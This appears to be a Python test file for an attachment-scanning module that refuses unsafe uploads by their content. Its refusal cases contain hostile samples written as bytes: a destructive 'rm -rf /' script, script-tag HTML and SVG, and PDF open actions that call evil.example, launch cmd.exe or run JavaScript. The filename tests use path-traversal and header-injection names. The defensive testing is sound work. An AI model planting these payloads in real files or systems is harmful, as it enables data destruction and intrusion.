"""Attachments are checked by content, never by name (issue 7; ASVS 5.0 5.2.1-5.2.3): real small files made in the
tests; each refusal says why in words for the sender, without the file's name."""

from __future__ import annotations

import pytest

from openmash.messaging.filecheck import DOCX, JPEG, PDF, PNG, TEXT, XLSX, FileRefused, file_check, safe_filename
from openmash.messaging.tests import pdfbuild
from openmash.messaging.tests.conftest import (
    _zip,
    docm_bytes,
    docx_bytes,
    encrypted_zip_bytes,
    jpeg_bytes,
    pdf_bytes,
    png_bytes,
    xlsx_bytes,
    zip_bomb_bytes,
)


@pytest.mark.parametrize(
    ("name", "make", "expected"),
    [
        ("minutes.pdf", pdf_bytes, PDF),
        ("bruise.png", png_bytes, PNG),
        ("photo.jpg", jpeg_bytes, JPEG),
        ("photo.JPEG", jpeg_bytes, JPEG),
        ("report.docx", docx_bytes, DOCX),
        ("attendance.xlsx", xlsx_bytes, XLSX),
        ("notes.txt", lambda: "Seen at home, all well. Café visit – ok.\n".encode(), TEXT),
    ],
)
def test_real_files_of_each_accepted_type_are_accepted_with_the_type_their_bytes_say(name, make, expected):
    data = make()
    found = file_check(name, data)
    assert found.content_type == expected
    assert found.size == len(data) and len(found.sha256) == 64
    assert found.filename == name


REFUSALS = [
    ("report.pdf", png_bytes(), "called .pdf but is a PNG image"),
    ("notes.txt", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "web page (HTML)"),
    ("notes.txt", b"hello <script>alert(1)</script>", "web page (HTML)"),
    ("picture.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "SVG"),
    ("report.docx", docm_bytes(), "macros"),
    ("report.docx", zip_bomb_bytes(), "zip bomb"),
    ("report.docx", encrypted_zip_bytes(), "encrypted"),
    ("report.pdf", b"MZ\x90\x00" + bytes(200), "Windows program"),
    ("report.txt", b"\x7fELF\x02\x01\x01" + bytes(200), "program"),
    ("run.txt", b"#!/bin/sh\nrm -rf /\n", "script"),
    ("notes.txt", "Caf\xe9 visit".encode("latin-1"), "UTF-8"),
    ("sheet.xlsx", docx_bytes(), "called .xlsx but is a Word document"),
    ("legacy.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old binary Office"),
    ("bundle.docx", _zip({"a.txt": b"x"}), "archive"),
    ("page.html", b"<html></html>", "called .html"),
    ("report.docm", docm_bytes(), "called .docm"),
    ("noextension", pdf_bytes(), "has no extension"),
    ("blank.txt", b"", "empty"),
    (
        "report.pdf",
        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n%%EOF\n",
        "JavaScript",
    ),
    # attacker review 2026-12, finding D: actions that are not scripts but still act on opening or reach out
    ("report.pdf", b"%PDF-1.4\n1 0 obj << /OpenAction << /S /URI /URI (http://evil.example/x) >> >>\n%%EOF\n", "web"),
    (
        "report.pdf",
        b"%PDF-1.4\n1 0 obj << /OpenAction 2 0 R >> endobj\n2 0 obj << /S /URI /URI (http://e.example) >> endobj\n%%EOF\n",
        "web",
    ),
    (
        "report.pdf",
        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /GoToR /F (\\\\evil\\share\\x.pdf) >> >>\n%%EOF\n",
        "remote-file",
    ),
    ("report.pdf", b"%PDF-1.4\n1 0 obj << /OpenAction << /S /GoToE /T << /R /C >> >> >>\n%%EOF\n", "remote-file"),
    ("report.pdf", b"%PDF-1.4\n1 0 obj << /OpenAction << /S /SubmitForm /F (http://e.example) >> >>\n%%EOF\n", "form"),
    ("report.pdf", b"%PDF-1.4\n1 0 obj << /A << /S /ImportData /F (data.fdf) >> >>\n%%EOF\n", "form"),
    ("report.pdf", b"%PDF-1.4\n1 0 obj << /AcroForm << /XFA 5 0 R >> >>\n%%EOF\n", "XFA"),
    ("report.pdf", b"%PDF-1.4\n1 0 obj << /Type /Annot /Subtype /RichMedia >>\n%%EOF\n", "JavaScript"),
    ("report.pdf", b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >>\n%%EOF\n", "launch"),
    ("report.pdf", b"%PDF-1.4\n1 0 obj << /Sub#6dit#46orm 1 >>\n%%EOF\n", "form"),
    ("cut.pdf", b"%PDF-1.4\n1 0 obj\n", "not a complete PDF"),
    ("photo.png", b"GIF89a" + bytes(50), "gif"),
]


@pytest.mark.parametrize(("name", "data", "says"), REFUSALS, ids=[f"{n} {s}" for n, _, s in REFUSALS])
def test_files_are_refused_by_what_their_bytes_are_and_the_reason_is_given(name, data, says):
    with pytest.raises(FileRefused) as refused:
        file_check(name, data)
    assert says.lower() in refused.value.message.lower(), refused.value.message
    stem = name.rsplit(".", 1)[0]
    assert stem not in refused.value.message  # the file's name is never echoed (it may name a child)


def test_the_size_limit_is_the_setting(settings):
    settings.OPENMASH_ATTACHMENT_MAX_BYTES = 1024
    assert file_check("ok.txt", b"x" * 1024).size == 1024
    with pytest.raises(FileRefused, match="smaller than 1 KB"):
        file_check("big.txt", b"x" * 1025)


@pytest.mark.parametrize(
    ("name", "content_type", "safe"),
    [
        ("../../etc/passwd.txt", TEXT, "passwd.txt"),
        ("C:\\Users\\x\\Report.PDF", PDF, "Report.PDF"),
        ('a"b;c\r\nd.pdf', PDF, "abcd.pdf"),
        (".hidden.png", PNG, "hidden.png"),
        ("report", PDF, "report.pdf"),
        ("", TEXT, "attachment.txt"),
        ("x" * 300 + ".docx", DOCX, "x" * 115 + ".docx"),
    ],
)
def test_safe_filenames_have_no_path_quotes_or_control_characters_and_keep_their_type(name, content_type, safe):
    assert safe_filename(name, content_type) == safe


def test_a_pdf_with_an_ordinary_hyperlink_is_still_accepted():
    """A link annotation's /URI (clicked by the reader) is not an open action: accepted (finding D refuses /URI only
    as an open action)."""
    annot = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.gov.uk/) >> >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>"
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"
    data = pdfbuild.pdf({1: catalog, 2: pdfbuild.PAGES, 3: page, 4: annot})
    assert file_check("links.pdf", data).content_type == PDF
    # the same objects packed in a compressed object stream: still a hyperlink, still accepted
    assert (
        file_check("links.pdf", pdfbuild.pdf({1: catalog, 2: pdfbuild.PAGES}, {3: page, 4: annot})).content_type == PDF
    )
